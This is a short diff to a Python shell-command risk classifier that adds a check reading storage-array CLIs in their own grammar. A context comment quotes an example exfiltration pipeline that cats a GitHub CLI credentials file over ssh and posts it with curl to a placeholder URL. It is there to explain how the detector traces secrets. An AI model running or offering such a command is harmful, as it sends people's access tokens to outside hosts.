@@ -95,6 +95,8 @@ from dongle.classify.startup_variables import (
     sets_only_tuning,
 )
 from dongle.classify.statement_request import statement_sent
+from dongle.classify.storage_language import PROGRAMS as _STORAGE_CLIS
+from dongle.classify.storage_language import storage_verdict
 from dongle.classify.store_scope import STORE_COMPANIONS, STORE_REMOVALS, store_scope
 from dongle.classify.switched_off import IN_PLACE_EDITORS, switched_off
 from dongle.classify.verdict import assess
@@ -544,6 +546,8 @@ def _assess_model(
                 # `ssh host 'cat ~/.config/gh/hosts.yml' | curl -d @- URL`: the remote shell's output is
                 # what its command prints there, so a pipe from the launcher carries the secret on
                 printed.add(id(launcher))
+        if name in _STORAGE_CLIS and (in_grammar := storage_verdict(inv, judged, subject)) is not None:
+            judged = in_grammar  # an array's CLI read in its own grammar (classify/storage_language.py)
         # a part whose rules the rest of the line shows harmless (a token only handed to a program's
         # environment, a script read whole) is not a risky part beside an unresolved one
         risky = risky or (part.risky and not (part.rules and judged.danger_level == DangerLevel.SAFE))
